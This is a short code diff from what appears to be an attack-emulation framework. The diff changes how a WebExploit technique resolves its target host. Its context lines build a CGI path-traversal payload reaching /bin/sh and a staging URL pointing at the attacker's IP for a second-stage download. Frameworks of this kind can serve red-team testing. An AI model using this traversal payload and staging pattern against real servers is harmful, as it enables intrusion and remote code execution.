@@ -34,7 +34,7 @@ class WebExploit(Technique):
     def generate(self, ctx: Context, params: WebExploitParams) -> Emission:  # type: ignore[override]
         rng = ctx.rng
         port = ctx.target.services.get("http", 80)
-        host = ctx.target.hostname or ctx.target.ip
+        host = ctx.target.name_or_ip
         shell = "/cgi-bin/" + ".%2e/" * params.depth + "bin/sh"
         stage_url = f"http://{ctx.attacker.ip}{params.stage_path}"
 
